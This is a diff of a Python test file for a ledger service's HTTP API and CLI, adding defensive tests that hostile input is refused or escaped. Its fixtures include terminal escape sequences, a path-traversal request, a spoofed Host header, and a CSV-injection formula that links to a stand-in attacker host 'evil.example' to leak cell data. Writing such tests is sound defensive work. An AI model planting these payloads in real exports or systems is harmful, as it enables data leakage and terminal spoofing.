@@ -7,7 +7,14 @@ Every refused request is checked to leave the events table as it was: the
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+import json
+import logging
 from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import timedelta
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -15,9 +22,12 @@ import sqlalchemy as sa
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
+from ledger.audit.export import FORMULA_STARTS
 from ledger.http import create_app
 from ledger.service import Ledger, build_ledger
 from ledger.settings import Settings
+from tests.backends import SqliteTemplate, database_url
+from tests.conftest import DATABASE_BACKENDS
 
 TOKENS = {
     "auditor": "auditor-token-hostile-0001",
@@ -41,9 +51,7 @@ PROBLEM_KEYS = {"detail", "field", "errors"}
 
 @pytest.fixture
 def ledger(db_url: str) -> Iterator[Ledger]:
-    built = build_ledger(
-        Settings(database_url=db_url, api_tokens=TOKEN_SPEC, max_body_bytes=CAP)
-    )
+    built = build_ledger(Settings(database_url=db_url, api_tokens=TOKEN_SPEC, max_body_bytes=CAP))
     yield built
     built.close()
 
@@ -57,6 +65,30 @@ def app(ledger: Ledger) -> FastAPI:
 def client(app: FastAPI) -> Iterator[TestClient]:
     with TestClient(app) as test_client:
         yield test_client
+
+
+@dataclass
+class Edge:
+    """One app per backend, shared by the tests that only send requests it must refuse."""
+
+    ledger: Ledger
+    app: FastAPI
+    client: TestClient
+    job_id: str
+
+
+@pytest.fixture(scope="module", params=DATABASE_BACKENDS)
+def edge(
+    request: pytest.FixtureRequest,
+    tmp_path_factory: pytest.TempPathFactory,
+    sqlite_template: SqliteTemplate,
+) -> Iterator[Edge]:
+    with database_url(request.param, tmp_path_factory.mktemp("edge"), sqlite_template) as url:
+        built = build_ledger(Settings(database_url=url, api_tokens=TOKEN_SPEC, max_body_bytes=CAP))
+        app = create_app(built)
+        with TestClient(app) as test_client:
+            yield Edge(built, app, test_client, enqueue(test_client, idempotencyKey="edge-seed"))
+        built.close()
 
 
 def auth(role: str) -> dict[str, str]:
@@ -145,40 +177,51 @@ def call(app: FastAPI, channel: Channel, path: str, headers: dict[str, str]) -> 
 
 
 @pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer not-a-known-token-xx"}])
-def test_an_unauthenticated_body_is_never_read(app: FastAPI, headers: dict[str, str]) -> None:
+def test_an_unauthenticated_body_is_never_read(edge: Edge, headers: dict[str, str]) -> None:
     channel = Channel(b"x" * 65536, 800)  # 50 MB on offer
-    call(app, channel, "/api/settlements", {**headers, "Content-Length": str(65536 * 800)})
+    call(edge.app, channel, "/api/settlements", {**headers, "Content-Length": str(65536 * 800)})
     assert channel.status == 401
     assert channel.pulled == 0
 
 
-def test_a_declared_length_over_the_cap_is_413_unread(app: FastAPI) -> None:
+def test_a_declared_length_over_the_cap_is_413_unread(edge: Edge) -> None:
     channel = Channel(b"x" * 65536, 800)
-    call(app, channel, "/api/settlements", {**auth("service"), "Content-Length": str(CAP + 1)})
+    call(edge.app, channel, "/api/settlements", {**auth("service"), "Content-Length": str(CAP + 1)})
     assert channel.status == 413
     assert channel.pulled == 0
     headers = dict(channel.sent[0]["headers"])
     assert headers[b"connection"] == b"close"
 
 
-def test_a_chunked_body_is_cut_off_at_the_cap(app: FastAPI) -> None:
+def test_a_chunked_body_is_cut_off_at_the_cap(edge: Edge) -> None:
     channel = Channel(b"x" * 1024, 50_000)  # no Content-Length: Transfer-Encoding chunked
-    call(app, channel, "/api/settlements", {**auth("service"), "Content-Type": "application/json"})
+    call(
+        edge.app,
+        channel,
+        "/api/settlements",
+        {**auth("service"), "Content-Type": "application/json"},
+    )
     assert channel.status == 413
     assert channel.pulled <= CAP + 1024
 
 
-def test_over_the_cap_through_the_client(client: TestClient, ledger: Ledger) -> None:
+def test_over_the_cap_through_the_client(edge: Edge) -> None:
     big = {**BODY, "metadata": {"pad": "x" * CAP}}
     body = refused(
-        client, ledger, "POST", "/api/settlements", expect=413, json=big, headers=auth("service")
+        edge.client,
+        edge.ledger,
+        "POST",
+        "/api/settlements",
+        expect=413,
+        json=big,
+        headers=auth("service"),
     )
     assert body["field"] is None and "LEDGER_MAX_BODY_BYTES" in body["detail"]
 
 
-def test_a_bad_content_length_is_400(app: FastAPI) -> None:
+def test_a_bad_content_length_is_400(edge: Edge) -> None:
     channel = Channel(b"{}", 1)
-    call(app, channel, "/api/settlements", {**auth("service"), "Content-Length": "1e3"})
+    call(edge.app, channel, "/api/settlements", {**auth("service"), "Content-Length": "1e3"})
     assert channel.status == 400
 
 
@@ -198,7 +241,7 @@ def test_the_cap_is_a_setting() -> None:
     ],
 )
 def test_json_that_breaks_the_rules_is_422_naming_the_field(
-    client: TestClient, ledger: Ledger, text: str, field: str
+    edge: Edge, text: str, field: str
 ) -> None:
     # the rest of a valid body around the hostile member
     head = '{"userId":"u","placeId":"p","missionId":"m","idempotencyKey":"dup",'
@@ -206,8 +249,8 @@ def test_json_that_breaks_the_rules_is_422_naming_the_field(
         head += '"amount":100,'
     document = head + text[1:]
     body = refused(
-        client,
-        ledger,
+        edge.client,
+        edge.ledger,
         "POST",
         "/api/settlements",
         expect=422,
@@ -227,12 +270,10 @@ def test_json_that_breaks_the_rules_is_422_naming_the_field(
         b"not json",
     ],
 )
-def test_text_that_is_not_json_is_400_without_a_field(
-    client: TestClient, ledger: Ledger, content: bytes
-) -> None:
+def test_text_that_is_not_json_is_400_without_a_field(edge: Edge, content: bytes) -> None:
     body = refused(
-        client,
-        ledger,
+        edge.client,
+        edge.ledger,
         "POST",
         "/api/settlements",
         expect=400,
@@ -242,10 +283,10 @@ def test_text_that_is_not_json_is_400_without_a_field(
     assert body["field"] is None and body["detail"].startswith("malformed JSON")
 
 
-def test_a_requeue_body_is_parsed_strictly_too(client: TestClient, ledger: Ledger) -> None:
+def test_a_requeue_body_is_parsed_strictly_too(edge: Edge) -> None:
     body = refused(
-        client,
-        ledger,
+        edge.client,
+        edge.ledger,
         "POST",
         "/api/queue/dlq",
         expect=422,
@@ -299,3 +340,343 @@ def test_cli_metadata_is_strict(
         main([*args, "--amount", "5", "--metadata", metadata])
     assert done.value.code == 2
     assert capsys.readouterr().err.startswith(f"error: invalid {field}: ")
+
+
+# -- identifiers: one printable-text rule, 4xx on both backends, nothing logged as an error ----
+
+HOSTILE_TEXT = [
+    "a\x00b",  # NUL: PostgreSQL cannot store it, SQLite can
+    "a\x1b[31mb",  # a terminal escape
+    "a\u202eb",  # right-to-left override
+    "a\u200bb",  # zero-width space
+    "a\u2028b",  # line separator
+    "\ufeffab",  # byte-order mark
+    "a\tb",
+    " ab",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXT)
+@pytest.mark.parametrize("field", ["userId", "placeId", "missionId", "idempotencyKey"])
+def test_a_hostile_identifier_in_a_body_is_422(edge: Edge, field: str, text: str) -> None:
+    body = refused(
+        edge.client,
+        edge.ledger,
+        "POST",
+        "/api/settlements",
+        expect=422,
+        json={**BODY, field: text},
+        headers=auth("service"),
+    )
+    assert body["field"] == field
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "role", "field"),
+    [
+        ("GET", "/api/jobs/{text}", "auditor", "job_id"),
+        ("GET", "/api/jobs/{text}/history", "auditor", "job_id"),
+        ("GET", "/api/events?userId={text}", "auditor", "userId"),
+        ("GET", "/api/events?placeId={text}", "auditor", "placeId"),
+        ("GET", "/api/events?missionId={text}", "auditor", "missionId"),
+        ("GET", "/api/totals?currency=K{text}", "auditor", "currency"),
+    ],
+)
+@pytest.mark.parametrize("text", ["%00", "a%1Bb", "a%E2%80%AEb", "%EF%BB%BFab"])
+def test_a_hostile_identifier_in_a_path_or_query_is_422(
+    edge: Edge,
+    caplog: pytest.LogCaptureFixture,
+    method: str,
+    path: str,
+    role: str,
+    field: str,
+    text: str,
+) -> None:
+    # the edge holds a job: a lookup that got through would reach the database
+    with caplog.at_level("WARNING"):
+        body = refused(
+            edge.client, edge.ledger, method, path.format(text=text), expect=422, headers=auth(role)
+        )
+    assert body["field"] == field
+    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")]
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXT)
+@pytest.mark.parametrize("field", ["jobId", "reason"])
+def test_a_hostile_requeue_is_422(edge: Edge, field: str, text: str) -> None:
+    body = {"jobId": edge.job_id, "reason": "fine", field: text}
+    answer = refused(
+        edge.client,
+        edge.ledger,
+        "POST",
+        "/api/queue/dlq",
+        expect=422,
+        json=body,
+        headers=auth("operator"),
+    )
+    assert answer["field"] == field
+
+
+def test_printable_text_from_anywhere_is_accepted(client: TestClient) -> None:
+    job_id = enqueue(client, userId="사용자 1", placeId="café =1+1", missionId="m-ü")
+    state = client.get(f"/api/jobs/{job_id}", headers=auth("service")).json()
+    assert state["data"]["userId"] == "사용자 1"
+
+
+def test_snake_case_on_the_wire_is_an_unknown_field(edge: Edge) -> None:
+    snake = {**{k: v for k, v in BODY.items() if k != "userId"}, "user_id": "user-1"}
+    body = refused(
+        edge.client,
+        edge.ledger,
+        "POST",
+        "/api/settlements",
+        expect=422,
+        json=snake,
+        headers=auth("service"),
+    )
+    fields = {problem["field"] for problem in body["errors"]}
+    assert fields == {"userId", "user_id"}
+    kinds = {problem["type"] for problem in body["errors"]}
+    assert kinds == {"missing", "extra_forbidden"}
+
+
+def test_the_requeue_loser_of_a_race_gets_409(
+    client: TestClient, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    job_id = enqueue(client)
+    (job,) = ledger.claim("w", 1, timedelta(seconds=30))
+    ledger.fail(job, job.attempt, "gateway said no", retryable=False)
+    append = ledger.store.append
+
+    def another_operator_first(job_id: str, expected: int, events: Any) -> Any:
+        monkeypatch.setattr(ledger.store, "append", append)
+        append(job_id, expected, events)  # the winner's requeue lands first
+        return append(job_id, expected, events)
+
+    monkeypatch.setattr(ledger.store, "append", another_operator_first)
+    before = event_rows(ledger)
+    response = client.post("/api/queue/dlq", json={"jobId": job_id}, headers=auth("operator"))
+    assert response.status_code == 409, response.text
+    assert response.json()["success"] is False and response.json()["field"] is None
+    assert event_rows(ledger) == before + 1  # the winner's event, and only it
+
+
+# -- headers, redirects, HEAD, docs -----------------------------------------------------------
+
+
+def test_a_trailing_slash_is_a_404_not_a_redirect(client: TestClient, ledger: Ledger) -> None:
+    job_id = enqueue(client)
+    for path in (f"/api/jobs/{job_id}/", "/api/queue/stats/", "/health/"):
+        response = client.get(
+            path,
+            headers={**auth("auditor"), "Host": "evil.example"},
+            follow_redirects=False,
+        )
+        assert response.status_code in (401, 404), path
+        assert "location" not in response.headers
+
+
+def test_head_health_is_200(edge: Edge) -> None:
+    response = edge.client.head("/health")
+    assert response.status_code == 200
+    assert response.content == b""
+
+
+def test_answers_are_not_cached_or_sniffed(client: TestClient, ledger: Ledger) -> None:
+    job_id = enqueue(client)
+    for path, role in [
+        (f"/api/jobs/{job_id}", "service"),
+        ("/api/events", "auditor"),
+        ("/api/queue/failed", "operator"),
+        ("/api/jobs/nope", "auditor"),
+        ("/health", "auditor"),
+    ]:
+        response = client.get(path, headers=auth(role))
+        assert response.headers["cache-control"] == "no-store", path
+        assert response.headers["x-content-type-options"] == "nosniff", path
+    unauthenticated = client.get("/api/events")
+    assert unauthenticated.status_code == 401
+    assert unauthenticated.headers["cache-control"] == "no-store"
+
+
+def test_the_docs_come_from_the_package(edge: Edge) -> None:
+    page = edge.client.get("/docs")
+    assert page.status_code == 200
+    assert "http" not in page.text.lower().replace("http-equiv", "")  # no absolute URL at all
+    assert "script-src 'self'" in page.headers["content-security-policy"]
+    for asset in ("swagger-ui-bundle.js", "swagger-ui.css", "swagger-init.js"):
+        response = edge.client.get(f"/docs/assets/{asset}")
+        assert response.status_code == 200 and len(response.content) > 100, asset
+    assert edge.client.get("/docs/assets/..%2F..%2Fpyproject.toml").status_code == 404
+    assert edge.client.get("/docs/assets/index.html").status_code == 404
+    assert edge.client.get("/redoc").status_code == 404
+
+
+def test_the_access_log_keeps_no_query_string() -> None:
+    from ledger.http.headers import QueryOutOfAccessLog, redact_query
+
+    record = logging.LogRecord(
+        "uvicorn.access",
+        logging.INFO,
+        __file__,
+        1,
+        '%s - "%s %s HTTP/%s" %d',
+        (
+            "127.0.0.1:5000",
+            "GET",
+            f"/api/events?access_token={TOKENS['auditor']}&userId=a",
+            "1.1",
+            401,
+        ),
+        None,
+    )
+    assert QueryOutOfAccessLog().filter(record)
+    assert TOKENS["auditor"] not in record.getMessage()
+    assert "userId=a" not in record.getMessage()
+    assert "/api/events?…" in record.getMessage()
+    assert redact_query("/health") == "/health"
+
+
+def test_the_server_installs_the_access_log_filter(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    from ledger.http.app import app_from_environment
+    from ledger.http.headers import QueryOutOfAccessLog
+
+    monkeypatch.setenv("LEDGER_DATABASE_URL", f"sqlite:///{tmp_path / 'ledger.db'}")
+    access = logging.getLogger("uvicorn.access")
+    monkeypatch.setattr(access, "filters", [])
+    app = app_from_environment()
+    assert any(isinstance(f, QueryOutOfAccessLog) for f in access.filters)
+    app.state.ledger.close()
+
+
+# -- the CLI: operator text refused on the way in, escaped on the way out -----------------------
+
+
+def run_cli(
+    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str
+) -> tuple[int, str, str]:
+    from ledger.cli.main import main
+
+    monkeypatch.setenv("LEDGER_DATABASE_URL", db_url)
+    code = 0
+    try:
+        main(list(args))
+    except SystemExit as done:
+        code = int(done.code or 0)
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def dead_job(client: TestClient, ledger: Ledger, reason: str, **changes: Any) -> str:
+    job_id = enqueue(client, **changes)
+    (job,) = ledger.claim("w", 1, timedelta(seconds=30))
+    ledger.fail(job, job.attempt, reason, retryable=False)
+    return job_id
+
+
+@pytest.mark.parametrize("option", ["--actor", "--reason"])
+@pytest.mark.parametrize("text", ["ops\x1b]0;pwned\x07", "ops\u202e", "ops\nFAKE LINE"])
+def test_cli_requeue_refuses_hostile_operator_text(
+    client: TestClient,
+    ledger: Ledger,
+    db_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    option: str,
+    text: str,
+) -> None:
+    job_id = dead_job(client, ledger, "gateway said no")
+    before = event_rows(ledger)
+    code, _out, err = run_cli(db_url, monkeypatch, capsys, "dlq", "requeue", job_id, option, text)
+    assert code == 2
+    assert err.startswith(f"error: invalid {option}: must be printable text")
+    assert event_rows(ledger) == before
+
+
+def test_history_escapes_what_is_not_printable(
+    client: TestClient,
+    ledger: Ledger,
+    db_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    # a handler's error message is not operator input: it may hold anything
+    job_id = dead_job(client, ledger, "boom \x1b[2J\x1b]0;owned\x07 \u202eevil")
+    code, out, _err = run_cli(db_url, monkeypatch, capsys, "history", job_id)
+    assert code == 0
+    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
+    assert "\\x1b[2J" in out and "\\u202e" in out
+    code, out, _err = run_cli(db_url, monkeypatch, capsys, "dlq", "list")
+    assert code == 0
+    assert "\x1b" not in out and "\\x1b" in out
+
+
+@pytest.mark.parametrize("args", [["history", "a\x00b"], ["events", "--user-id", "a\u202eb"]])
+def test_cli_lookups_refuse_hostile_ids(
+    db_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    args: list[str],
+) -> None:
+    code, _out, err = run_cli(db_url, monkeypatch, capsys, *args)
+    assert code == 2
+    assert "must be printable text" in err and "Traceback" not in err
+
+
+# -- exports: byte-exact by default, --spreadsheet-safe on request, JSONL one record a line -------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_is_byte_exact_by_default_and_safe_on_request(
+    client: TestClient,
+    ledger: Ledger,
+    db_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    enqueue(client, userId=FORMULA, placeId="+1-2", missionId="@SUM(A1)")
+    code, exact, _err = run_cli(db_url, monkeypatch, capsys, "events", "--format", "csv")
+    assert code == 0
+    (row,) = list(csv.DictReader(io.StringIO(exact)))
+    assert row["user_id"] == FORMULA and row["place_id"] == "+1-2"
+    code, safe, _err = run_cli(
+        db_url, monkeypatch, capsys, "events", "--format", "csv", "--spreadsheet-safe"
+    )
+    assert code == 0
+    (row,) = list(csv.DictReader(io.StringIO(safe)))
+    assert row["user_id"] == "'" + FORMULA
+    assert row["place_id"] == "'+1-2" and row["mission_id"] == "'@SUM(A1)"
+    assert row["job_id"][0] != "'" and row["position"] == "1"
+    assert all(not cell.startswith(FORMULA_STARTS) for cell in row.values())
+    code, _out, err = run_cli(
+        db_url, monkeypatch, capsys, "events", "--format", "jsonl", "--spreadsheet-safe"
+    )
+    assert code == 2 and "csv only" in err
+
+
+def test_events_help_says_when_to_use_spreadsheet_safe(
+    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _err = run_cli(db_url, monkeypatch, capsys, "events", "--help")
+    assert code == 0
+    assert "--spreadsheet-safe" in out and "Excel" in out and "byte-exact" in out
+
+
+def test_jsonl_escapes_line_separators(
+    client: TestClient,
+    ledger: Ledger,
+    db_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    note = "one\u2028two\u2029three\u0085four"
+    enqueue(client, metadata={"note": note})
+    code, out, _err = run_cli(db_url, monkeypatch, capsys, "events", "--format", "jsonl")
+    assert code == 0
+    assert not any(c in out for c in "\u2028\u2029\u0085")
+    lines = out.splitlines()  # str.splitlines splits on all three: none are left to split on
+    assert len(lines) == 1
+    assert json.loads(lines[0])["data"]["request"]["metadata"]["note"] == note
